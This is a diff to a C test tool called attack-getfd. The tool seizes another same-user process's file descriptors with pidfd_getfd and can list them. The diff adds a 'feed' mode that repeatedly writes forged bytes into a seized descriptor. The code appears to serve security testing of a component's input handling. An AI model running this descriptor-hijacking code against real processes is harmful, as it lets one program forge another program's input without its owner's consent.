@@ -2,21 +2,47 @@
  * file descriptor out of another process of the same user with
  * pidfd_getfd(2), then
  *   attack-getfd PID FD write FILE   write FILE's bytes into it (forge)
+ *   attack-getfd PID FD feed FIRST NEXT MS
+ *                                    write FIRST's bytes, say "fed" on
+ *                                    stdout, then NEXT's every MS ms until
+ *                                    a write fails (the reader is gone)
  *   attack-getfd PID FD list         print where every fd of PID points
  *                                    that this user can take (one a line)
  * Exit status 3 when the fd cannot be taken. */
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/syscall.h>
+#include <time.h>
 #include <unistd.h>
 
 static int getfd(int pidfd, int fd)
 {
     return (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
+}
+
+/* FILE's bytes into fd: 0, or -1 when a write fails. */
+static int put(int fd, const char *file)
+{
+    int in = open(file, O_RDONLY);
+    if (in < 0) {
+        perror(file);
+        return -1;
+    }
+    char buf[65536];
+    ssize_t n;
+    int rc = 0;
+    while (rc == 0 && (n = read(in, buf, sizeof(buf))) > 0)
+        if (write(fd, buf, (size_t)n) != n) {
+            perror("write");
+            rc = -1;
+        }
+    close(in);
+    return rc;
 }
 
 int main(int argc, char **argv)
@@ -60,15 +86,17 @@ int main(int argc, char **argv)
         perror("pidfd_getfd");
         return 3;
     }
-    if (!strcmp(argv[3], "write") && argc == 5) {
-        int in = open(argv[4], O_RDONLY);
-        char buf[65536];
-        ssize_t n;
-        while (in >= 0 && (n = read(in, buf, sizeof(buf))) > 0)
-            if (write(fd, buf, (size_t)n) != n) {
-                perror("write");
-                return 1;
-            }
+    if (!strcmp(argv[3], "write") && argc == 5)
+        return put(fd, argv[4]) < 0 ? 1 : 0;
+    if (!strcmp(argv[3], "feed") && argc == 7) {
+        signal(SIGPIPE, SIG_IGN);
+        if (put(fd, argv[4]) < 0)
+            return 1;
+        printf("fed\n");
+        fflush(stdout);
+        struct timespec every = {.tv_sec = atoi(argv[6]) / 1000, .tv_nsec = (atoi(argv[6]) % 1000) * 1000000L};
+        while (put(fd, argv[5]) == 0)
+            nanosleep(&every, NULL); /* the attack's pace, not a wait for anything */
         return 0;
     }
     return 2;
